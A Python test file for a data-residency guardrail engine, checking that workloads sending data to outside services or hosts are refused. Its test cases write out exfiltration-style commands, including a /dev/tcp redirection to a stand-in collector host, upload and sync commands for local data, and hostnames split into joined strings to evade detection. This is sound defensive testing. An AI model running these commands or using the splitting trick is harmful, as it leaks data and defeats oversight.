"""Programs that send by a built-in address, and addresses that programs compute."""

import pytest
from guardrails.engine.enforcement import Enforcement
from guardrails.readers.named_hosts import named_in

from .blind import TAGS, Props, workload
from .blind import aws as of_aws
from .harness import Given, Pack, blocking

PACK = Pack(
    Enforcement.model_validate(
        {
            "default": {"all": "disabled", "FJ-RES-003": "mandatory", "FJ-RES-114": "mandatory"},
            "residency": {"known": {"example.ae": "our own domain, in Abu Dhabi"}},
        }
    )
)


def refused(given: Given) -> set[str]:
    """Returns the rules that refuse a resource."""
    return blocking(PACK.evaluate_resource(given))


def runs(command: str, **env: str) -> Given:
    """Returns a workload with a command and variables."""
    variables = [{"name": name, "value": value} for name, value in env.items()]
    return workload("apps/v1:Deployment", {"command": ["sh", "-c", command], "env": variables})


@pytest.mark.parametrize("command", [
    "huggingface-cli upload someone/model /data", "hf upload someone/model .", "wandb sync /runs", "npm publish",
    "python -c 'model.push_to_hub(\"someone/m\")'", "python train.py --push_to_hub", "twine upload dist/x",
    "python -c 'import wandb; wandb.init(project=\"x\")'", "gh gist create /data/rows.csv", "croc send /data",
    "kaggle datasets version -p /data -m x", "python t.py --report_to wandb", "dvc add rows && dvc push -r partner",
    "ipfs add -r /data", "ipfs pin remote add a", "telegram-send --file /data/rows.csv", "apprise -b x tgram://a/b",
    "bq load --source_format=CSV a:b.c /data/rows.csv", "bq --project_id=a load b.c d", "gcloud storage cp /data gs://a",
    "snow stage copy /data @rows", "databricks fs cp /data dbfs:/a",
    "hf buckets cp /data/rows.csv hf://buckets/a/rows", "hf jobs scheduled run @daily python:3.12 python a.py",
    "dvc exp push origin", "snow sql -q 'PUT file:///data/rows.csv @rows'", "together files upload /data/rows.jsonl",
    "comet upload run.zip", "clearml-data upload --id a", "modal deploy app.py", "netlify deploy --prod --dir=data",
    "vercel deploy", "wrangler pages deploy --branch main", "firebase deploy --only hosting", "flyctl deploy && echo",
    "railway up --detach", "glab snippet create -t a rows.csv", "gem push a.gem", "dotnet nuget push a.nupkg",
    "git annex copy rows --to partner", "git lfs push origin main", "syncthing serve --no-browser",
])  # fmt: skip
def test_a_program_with_a_built_in_address_is_refused(command: str) -> None:
    assert refused(runs(command)) == {"FJ-RES-114"}


@pytest.mark.parametrize("given", [
    runs("huggingface-cli download bank/model --local-dir /m"), runs("hf download bank/model"),
    runs("python -c 'import wandb; wandb.init()'", WANDB_BASE_URL="https://wandb.example.ae"),
    runs("python t.py --report_to wandb", WANDB_MODE="offline"), runs("npm ci && npm test"),
    runs("twine upload --repository-url https://packages.example.ae dist/x"), runs("gh release download v1"),
    runs("ipfs get a"), runs("bq ls a"), runs("gcloud storage ls"), runs("snow sql -q 'select 1'"),
    runs("dvc remote add -d own s3://awsuae-data/dvc && dvc push"), runs("dvc pull && git annex get rows"),
    runs("python -c 'get_bearer_token_provider(identity, \"https://ai.azure.com/.default\")'"),
    runs("az account get-access-token --resource https://search.azure.com"),
], ids=str)  # fmt: skip
def test_downloads_and_servers_of_ones_own_pass(given: Given) -> None:
    assert refused(given) == set()


@pytest.mark.parametrize(("image", "is_refused"), [
    ("registry.example.ae/tools/syncthing:2.0.10", True), ("registry.example.ae/tools/sync@sha256:1", False),
])  # fmt: skip
def test_images_of_programs_that_only_send_are_refused(image: str, *, is_refused: bool) -> None:
    assert ("FJ-RES-114" in refused(workload("apps/v1:Deployment", {"image": image}))) is is_refused


@pytest.mark.parametrize("text", ["cat r > /dev/tcp/collector-app.io/443", "exec 3<>/dev/udp/collector-app.io/53"])
def test_a_device_of_a_shell_is_an_address(text: str) -> None:
    assert [item.name for item in named_in(text)] == ["collector-app.io"]
    assert named_in("ls /dev/tcp /dev/shm/rows.csv") == ()


def test_options_in_a_list_are_read() -> None:
    assert refused(workload("apps/v1:Deployment", {"args": ["train", "--report_to", "wandb"]})) == {"FJ-RES-114"}
    assert refused(workload("apps/v1:Deployment", {"args": ["train", "--report_to", "none"]})) == set()


@pytest.mark.parametrize(("text", "host"), [
    ("app.send('.'.join(['intake', 'collector-app', 'io']))", "intake.collector-app.io"),
    ('u = "https://" + "intake" + "." + "collector-app.io"', "intake.collector-app.io"),
    ("fetch('https://in' + 'take.collector-app.io')", "intake.collector-app.io"),
])  # fmt: skip
def test_joined_parts_are_read_as_one_address(text: str, host: str) -> None:
    assert host in {named.name for named in named_in(text)}
    assert refused(runs(f"python -c {text}")) == {"FJ-RES-003"}


def test_joined_words_that_are_no_address_pass() -> None:
    for text in ("print(', '.join(['a', 'b']))", "x = 'a' + 'b'", "'/'.join(('data', 'in'))", "1 + 2"):
        assert refused(runs(f"python -c {text}")) == set()


def test_a_repository_to_which_a_program_sends_is_a_destination() -> None:
    assert refused(runs("run", UPLOAD_REPO="https://git.collector-app.io/x")) == {"FJ-RES-003"}
    assert refused(runs("run", CHART_REPO="https://charts.collector-app.io/x")) == set()


def _machine(**options: str) -> Given:
    props: Props = {"metadataOptions": options, "tagSpecifications": [
        {"resourceType": "instance", "tags": {**TAGS, "sink": "https://intake.collector-app.io"}}]}  # fmt: skip
    return of_aws("ec2/LaunchTemplate", props)


def test_tags_are_read_where_the_machine_reads_them() -> None:
    assert refused(_machine(instanceMetadataTags="enabled")) == {"FJ-RES-003"}
    assert refused(_machine(instanceMetadataTags="disabled")) == refused(_machine()) == set()
